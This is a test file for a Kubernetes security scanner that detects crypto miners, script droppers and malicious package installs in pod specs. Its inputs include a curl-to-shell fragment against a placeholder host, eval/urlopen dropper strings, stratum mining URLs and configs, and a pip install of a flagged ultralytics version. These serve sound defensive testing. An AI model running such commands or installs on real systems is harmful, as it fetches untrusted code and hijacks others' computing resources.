// The corners of detection's readers: odd shapes from the wire are read or ignored, never a crash.
import t from 'tap'
import { podEnvironment, valueFromOf } from '../../src/detect/container-sources.ts'
import { commandLines, containerTexts, readCommandLines } from '../../src/detect/container-text.ts'
import { describeInstall } from '../../src/detect/malicious-packages.ts'
import { minerConfigSigns } from '../../src/detect/miner-config.ts'
import { compileGrammar } from '../../src/detect/miner-grammar.ts'
import { findScriptDroppers } from '../../src/detect/script-droppers.ts'
import { evaluate } from '../../src/engine/evaluate.ts'
import type { KubeObject, V1Container } from '../../src/workloads/kubernetes.ts'
import { defaultPolicies } from '../helpers/server.ts'

const policySet = await defaultPolicies()
const pod = (container: Record<string, unknown>, metadata: Record<string, unknown> = {}): KubeObject => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'p', namespace: 'ns', ...metadata },
  spec: { containers: [{ name: 'c', image: 'alpine', ...container }] },
})
const messages = (object: KubeObject, related: KubeObject[] = []) => evaluate({ object, related }, policySet).findings.map((finding) => finding.message)

t.test('ConfigMaps without a namespace, and field paths that are not strings, are handled', async (t) => {
  const environment = podEnvironment({}, {}, [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'cm' }, data: { k: 'v' } }], 'ns')
  t.equal(valueFromOf({ valueFrom: { configMapKeyRef: { name: 'cm', key: 'k' } } }, environment), 'v')
  t.equal(valueFromOf({ valueFrom: { fieldRef: { fieldPath: 7 } } }, environment), undefined)
  t.equal(valueFromOf('not an entry', environment), undefined)
  t.equal(valueFromOf({ valueFrom: { configMapKeyRef: { name: 'cm', key: 'absent' } } }, environment), undefined)
})

t.test('command lines keep hooks and probes apart from the command, and shell-expanded texts name their field', async (t) => {
  const container = {
    name: 'c',
    command: ['sh', '-c', 'echo $A'],
    lifecycle: { postStart: { exec: { command: ['a', 'b'] } } },
    readinessProbe: { exec: { command: ['c'] } },
    env: [{ name: 'A', value: 'x' }],
  } as unknown as V1Container
  const texts = containerTexts(container, undefined, podEnvironment({}, {}, [], 'ns'))
  t.same(
    commandLines(texts).map(({ field, text }) => `${field}: ${text}`),
    [
      'env[0].value: x',
      'command[0]: sh -c echo $A',
      'lifecycle.postStart.exec.command[0]: a b',
      'readinessProbe.exec.command[0]: c',
      'command[2] (shell-expanded): echo x',
    ],
  )
})

t.test('command lines read without their list are the lines of the list, in its order, and what the reader said lines up with them', async (t) => {
  const container = {
    name: 'c',
    env: [
      { name: 'A', value: 'x' },
      { name: 'CMD', value: 'mark me' },
    ],
    command: ['sh', '-c', 'echo $A'],
    args: ['mark', 'too'],
    lifecycle: { postStart: { exec: { command: ['a', 'b'] } } },
    readinessProbe: { exec: { command: ['mark'] } },
    volumeMounts: [{ name: 'cfg', mountPath: '/etc/cfg' }],
  } as unknown as V1Container
  // A mounted file no command names is read for a config only: no command line, in either walk.
  const related: KubeObject[] = [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'cm', namespace: 'ns' }, data: { 'unread.conf': 'mark' } }]
  const texts = containerTexts(container, undefined, podEnvironment({}, { volumes: [{ name: 'cfg', configMap: { name: 'cm' } }] }, related, 'ns'))
  t.ok(texts.some((text) => text.configOnly === true))
  const read: string[] = []
  const said = readCommandLines(texts, (line) => {
    read.push(`${line.field}: ${line.text}`)
    return line.text.includes('mark')
  })
  const lines = commandLines(texts)
  t.same(
    read,
    lines.map(({ field, text }) => `${field}: ${text}`),
  )
  t.same(
    lines.filter((_, index) => said[index] === true).map(({ field }) => field),
    ['env[1].value', 'command[0]', 'readinessProbe.exec.command[0]'],
  )
})

t.test('a JSON5 text that is not an object, and a text that starts with neither { nor "pool_list", are no config', async (t) => {
  t.equal(minerConfigSigns('  [1, 2,]'), undefined)
  t.equal(minerConfigSigns('  "something else": 1'), undefined)
  t.same(minerConfigSigns('  {"pools": [], } '), { pools: undefined, minerKeys: [] })
})

t.test('a miner command line ending at the end of its text is reported once', async (t) => {
  const found: string[] = []
  compileGrammar({ algorithms: [] })('app -o stratum+tcp://p.example:1 -u w', (quote) => found.push(quote))
  t.same(found, ['-o stratum+tcp://p.example:1 -u …'])
})

t.test('a line that executes without fetching or decoding is no dropper, and one line is reported once', async (t) => {
  const found: string[] = []
  findScriptDroppers('exec(x); urlopen(y)\nexec(z)\neval(1); eval(urlopen(2))', (kind, index) => found.push(`${kind}@${index}`))
  t.same(found, ['download-to-shell@0', 'download-to-shell@28'])
})

t.test('an unclosed backtick substitution runs to the end of its text', async (t) => {
  const found: string[] = []
  findScriptDroppers('sh -c "`curl http://x.example/i', (kind) => found.push(kind))
  t.same(found, ['download-to-shell'])
})

t.test('a package listed for every version is named without a version', async (t) => {
  t.equal(describeInstall({ ecosystem: 'npm', name: 'evil', version: undefined }), 'evil (npm)')
  t.equal(describeInstall({ ecosystem: 'PyPI', name: 'x', version: '1' }), 'x 1 (PyPI)')
})

t.test('a mounted script the container runs is read shell-expanded with its env variables', async (t) => {
  const related: KubeObject[] = [
    { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'boot', namespace: 'ns' }, data: { 'run.sh': './app -o ${P1}${P2}' } },
  ]
  const object = pod({
    command: ['sh', '/b/run.sh'],
    volumeMounts: [{ name: 'b', mountPath: '/b' }],
    env: [
      { name: 'P1', value: 'stratum+tc' },
      { name: 'P2', value: 'p://p.example:1' },
    ],
  })
  ;(object.spec as { volumes: unknown[] }).volumes = [{ name: 'b', configMap: { name: 'boot' } }]
  t.match(messages(object, related).join('\n'), /stratum URL "stratum\+tcp:\/\/p\.example:1"/)
})

t.test('a mining port declared by a container counts beside other signs', async (t) => {
  t.match(messages(pod({ ports: [{ containerPort: 3333 }], args: ['--donate-level', '1'] })).join('\n'), /mining port "3333"/)
})

t.test('a miner config in an env value is read', async (t) => {
  t.match(
    messages(pod({ env: [{ name: 'CONFIG', value: '{"pools":[{"url":"p.example:3333","user":"w"}],"donate-level":1}' }] })).join('\n'),
    /miner configuration "pools\[0\]\.url"/,
  )
})

t.test('a package installed twice in one container is named once', async (t) => {
  const found = messages(pod({ image: 'python:3.12', command: ['sh', '-c', 'pip install ultralytics==8.3.41; pip install ultralytics==8.3.41'] }))
  t.equal(found.filter((message) => message.includes('malicious-packages')).length, 1)
})
